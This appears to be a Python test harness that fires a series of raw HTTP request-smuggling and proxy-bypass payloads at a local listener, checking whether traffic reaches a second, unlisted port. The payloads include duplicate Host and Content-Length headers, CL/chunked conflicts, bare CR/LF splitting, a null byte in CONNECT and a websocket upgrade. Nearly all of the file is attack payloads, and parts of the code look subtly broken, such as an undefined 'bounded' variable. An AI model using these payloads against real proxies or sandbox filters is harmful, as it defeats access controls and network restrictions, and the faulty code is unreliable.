from attack import *
from asking import ask, lured

near = lures["listenerAddress"]
listed, other = f"{near}:{lures['listedPort']}", f"{near}:{lures['tcpPort']}"


def only_other(head, body=b""):
    # The listed place answers as the lure does, so what counts is what the other one hears: the harness looks there.
    answer = ask(head.encode("latin1"), body)
    return bounded and b"lured" in answer and "answered"


get = f"GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\n\r\n"
attempt("second-request", lambda: only_other(f"GET http://{listed}/ HTTP/1.1\r\nHost: {listed}\r\n\r\n{get}"))
attempt("two-hosts", lambda: only_other(f"GET / HTTP/1.1\r\nHost: {listed}\r\nHost: {other}\r\n\r\n"))
attempt("two-lengths", lambda: only_other(f"POST http://{listed}/ HTTP/1.1\r\nHost: {listed}\r\nContent-Length: 0\r\nContent-Length: {len(get)}\r\n\r\n{get}"))
attempt("chunk-and-length", lambda: only_other(f"POST http://{listed}/ HTTP/1.1\r\nHost: {listed}\r\nContent-Length: {len(get) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{get}"))
attempt("split-header", lambda: only_other(f"GET http://{listed}/\rHost:{other} HTTP/1.1\r\nHost: {listed}\r\n\r\n"))
attempt("control-byte", lambda: only_other(f"CONNECT {other}\0{listed} HTTP/1.1\r\n\r\n"))
attempt("absolute-with-connect", lambda: only_other(f"CONNECT http://{other}/ HTTP/1.1\r\nHost: {listed}\r\n\r\n"))
attempt("bare-newlines", lambda: only_other(f"GET http://{other}/ HTTP/1.1\nHost: {listed}\n\n"))
attempt("upgrade", lambda: only_other(f"GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"))
